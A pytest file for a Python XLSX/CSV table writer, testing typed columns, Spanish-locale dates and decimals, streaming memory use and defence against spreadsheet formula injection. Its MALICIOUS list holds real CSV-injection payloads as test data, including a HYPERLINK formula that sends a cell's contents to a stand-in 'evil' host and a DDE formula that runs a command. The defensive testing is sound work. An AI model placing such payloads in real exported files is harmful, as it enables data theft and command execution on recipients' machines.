"""The table writer: one formula-injection policy, typed columns, streaming in constant memory."""

import csv
import datetime as dt
import doctest
import io
import tracemalloc
import zipfile
from decimal import Decimal as D

import pytest
import python_calamine as pc

from facturador.tabular import sheets
from facturador.tabular.sheets import (DATE, DATETIME, DECIMAL, INTEGER, MONEY, Column, TableWriter, stream_csv,
                                       table_bytes, write_table)

MALICIOUS = ["=HYPERLINK(\"http://evil/?\"&A1, \"clic\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1", "\r=1"]


def xlsx_rows(data: bytes, sheet=0):
    return pc.CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(sheet).to_python()


def csv_rows(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_module_doctests():
    assert doctest.testmod(sheets).failed == 0


def test_xlsx_text_is_never_a_formula():
    data = table_bytes("xlsx", [Column("Nota")], [[v] for v in MALICIOUS])
    assert [r[0] for r in xlsx_rows(data)[1:]] == MALICIOUS
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="inlineStr"' in sheet_xml  # strings, no formula cells


def test_csv_would_be_formulas_get_an_apostrophe_plain_numbers_do_not():
    data = table_bytes("csv", [Column("Nota")], [[v] for v in MALICIOUS + ["-7", "+57 300 123 4567", "1.234,50", "Ana"]])
    cells = [r[0] for r in csv_rows(data)[1:]]
    assert cells[:len(MALICIOUS)] == ["'" + v for v in MALICIOUS]
    assert cells[len(MALICIOUS):] == ["-7", "+57 300 123 4567", "1.234,50", "Ana"]


def test_header_labels_follow_the_same_policy():
    # headers may come from an uploaded file
    assert csv_rows(table_bytes("csv", [Column("=1+1")], []))[0] == ["'=1+1"]
    assert xlsx_rows(table_bytes("xlsx", [Column("=1+1")], []))[0] == ["=1+1"]


COLUMNS = [Column("Ref"), Column("Cantidad", INTEGER), Column("Valor", MONEY), Column("Pesos", MONEY, decimals=0),
           Column("Tasa", DECIMAL, decimals=4), Column("Fecha", DATE), Column("Enviado", DATETIME)]
ROW = ["007", 3, D("1234.5"), D("1500"), D("0.12345"), dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 8, 30, 5)]


def test_xlsx_types_are_real_numbers_and_dates_with_column_formats():
    data = table_bytes("xlsx", COLUMNS, [ROW, [None, "", 2.5, 7, 1, None, None]])
    rows = xlsx_rows(data)
    assert rows[0] == [c.label for c in COLUMNS]
    assert rows[1] == ["007", 3, 1234.5, 1500, 0.12345, dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 8, 30, 5)]
    assert rows[2][:5] == ["", "", 2.5, 7, 1]
    styles = zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    for code in ("#,##0.00", "#,##0", "0.0000", "dd/mm/yyyy", "dd/mm/yyyy hh:mm:ss"):
        assert f'formatCode="{code}"' in styles


def test_csv_types_decimal_comma_and_spanish_dates():
    rows = csv_rows(table_bytes("csv", COLUMNS, [ROW, [None, True, -2.5, 7, 1, None, None]]))
    assert rows[1] == ["007", "3", "1234,50", "1500", "0,1235", "02/01/2026", "02/01/2026 08:30:05"]
    assert rows[2] == ["", "VERDADERO", "-2,50", "7", "1,0000", "", ""]


def test_numbers_in_a_text_column_stay_numbers_text_in_a_number_column_stays_text():
    rows = csv_rows(table_bytes("csv", [Column("A"), Column("B", MONEY)], [[D("20.00"), "n/d"], [2.0, "=1"]]))
    assert rows[1:] == [["20,00", "n/d"], ["2", "'=1"]]
    assert xlsx_rows(table_bytes("xlsx", [Column("A"), Column("B", MONEY)], [[D("20.00"), "=1"]]))[1] == [20, "=1"]


def test_aware_datetimes_keep_their_wall_time():
    bogota = dt.timezone(dt.timedelta(hours=-5))
    value = dt.datetime(2026, 3, 1, 9, 0, tzinfo=bogota)
    assert xlsx_rows(table_bytes("xlsx", [Column("T", DATETIME)], [[value]]))[1] == [dt.datetime(2026, 3, 1, 9, 0)]
    assert csv_rows(table_bytes("csv", [Column("T", DATETIME)], [[value]]))[1] == ["01/03/2026 09:00:00"]


def test_title_notes_bold_frozen_header_and_widths(tmp_path):
    path = tmp_path / "t.xlsx"
    with TableWriter(path, "xlsx", [Column("Referencia", width=16), Column("Saldo", MONEY)], sheet_name="Cartera",
                     title="Listado", notes=["Corte: 15/10/2026"]) as w:
        w.row(["001", D(5)])
        w.blank()
        w.row(["Totales", D(5)], bold=True)
    assert w.rows_written == 2
    wb = pc.CalamineWorkbook.from_path(str(path))
    assert wb.sheet_names == ["Cartera"]
    assert wb.get_sheet_by_index(0).to_python() == [
        ["Listado", ""], ["Corte: 15/10/2026", ""], ["", ""], ["Referencia", "Saldo"], ["001", 5], ["", ""],
        ["Totales", 5]]
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert '<pane ySplit="4" topLeftCell="A5"' in xml and 'state="frozen"' in xml
    assert '<col min="1" max="1" width="16.7109375"' in xml
    csv_data = table_bytes("csv", [Column("Referencia")], [["001"]], title="Listado", notes=["Corte"])
    assert csv_rows(csv_data) == [["Listado"], ["Corte"], [], ["Referencia"], ["001"]]


def test_rows_longer_than_the_columns_and_unknown_types():
    rows = csv_rows(table_bytes("csv", [Column("A")], [["x", "=extra", 3]]))
    assert rows[1] == ["x", "'=extra", "3"]
    with pytest.raises(ValueError):
        Column("A", "percent")
    with pytest.raises(ValueError):
        TableWriter(io.BytesIO(), "ods", [Column("A")])


def test_xlsx_row_limit_truncates_with_a_note(monkeypatch):
    monkeypatch.setattr(sheets, "XLSX_MAX_ROWS", 4)
    out = io.BytesIO()
    with TableWriter(out, "xlsx", [Column("A")]) as w:
        written = [w.row([i]) for i in range(5)]
    assert written == [True, True, False, False, False] and w.truncated and w.rows_written == 2
    assert xlsx_rows(out.getvalue())[-1] == [sheets.XLSX_TRUNCATED]


def _rows(n):
    for i in range(n):
        yield [f"{i:08d}", f"Titular número {i} con un nombre largo", i, D(i) / 4, dt.date(2026, 1, 1)]


STREAM_COLUMNS = [Column("Ref"), Column("Titular"), Column("N", INTEGER), Column("Valor", MONEY), Column("Fecha", DATE)]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_streaming_in_constant_memory(fmt, tmp_path):
    """Peak memory does not grow with the number of rows: 10× the rows, about the same peak."""
    def peak(n):
        tracemalloc.start()
        try:
            assert write_table(tmp_path / f"t-{n}.{fmt}", fmt, STREAM_COLUMNS, _rows(n)) == n
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak(1_000), peak(10_000)
    assert (tmp_path / f"t-10000.{fmt}").stat().st_size > 5 * (tmp_path / f"t-1000.{fmt}").stat().st_size
    assert large < small * 1.5 + 200_000, (small, large)



def test_stream_csv_yields_pieces_as_rows_are_consumed():
    consumed = []

    def rows():
        for i in range(20_000):
            consumed.append(i)
            yield [f"=ref{i}", D(i)]

    pieces = stream_csv([Column("Ref"), Column("Valor", MONEY)], rows())
    first = next(pieces)
    assert first.startswith(b"\xef\xbb\xbfRef;Valor\r\n'=ref0;0,00\r\n") and len(consumed) < 20_000
    data = first + b"".join(pieces)
    assert data == table_bytes("csv", [Column("Ref"), Column("Valor", MONEY)], ([f"=ref{i}", D(i)] for i in range(20_000)))
